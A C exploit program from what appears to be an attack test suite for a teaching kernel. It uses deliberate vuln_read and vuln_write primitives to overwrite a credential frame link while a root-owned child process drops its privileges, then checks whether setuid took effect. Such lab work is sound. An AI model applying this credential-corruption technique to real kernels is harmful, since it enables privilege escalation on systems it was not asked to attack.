/* A program of root's drops its rights, and the kernel cannot write that down. */
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum { CREDENTIAL_BYTES = 32 };

static _Noreturn void become_servant(long endpoint)
{
	char handle[24];

	snprintf(handle, sizeof(handle), "%ld", endpoint);
	execl("/bin/servant", "servant", "drop", handle, NULL);
	_exit(1);
}

int main(void)
{
	struct bw_message message = { 0 };
	struct bw_leak leak;
	uint64_t frame, before;
	long endpoint, from;
	pid_t child;

	attack_leak(&leak);
	endpoint = bw_endpoint_create();
	child = fork();
	if (child == 0) {
		become_servant(endpoint);
	}
	from = bw_ipc_receive(endpoint, &message);
	if (from != child || message.words[0] != 0) {
		attack_skip("the policy has no program that runs as root");
	}

	/* what the frame says of the pool's page that the child's credentials are in */
	frame = leak.credential + (uint64_t)((int64_t)(child - getpid()) * CREDENTIAL_BYTES);
	frame = attack_frame_link(&leak, frame);
	before = (uint64_t)bw_vuln_read(frame);
	attack_say("root's program %d is about to drop its rights; its frame says 0x%lx", child,
		   before);
	attack_check("vuln_write", bw_vuln_write(frame, before + FRAME_LINK_PREV));
	from = bw_ipc_reply_receive(endpoint, &message);
	attack_check("vuln_write", bw_vuln_write(frame, before));
	if (from < 0) {
		attack_say("it is gone");
	} else {
		attack_say("setuid told it %ld, and it is user %lu", (long)message.words[0],
			   message.words[1]);
		bw_ipc_reply_receive(endpoint, &message);
	}
	waitpid(child, NULL, 0);
	return attack_finish();
}
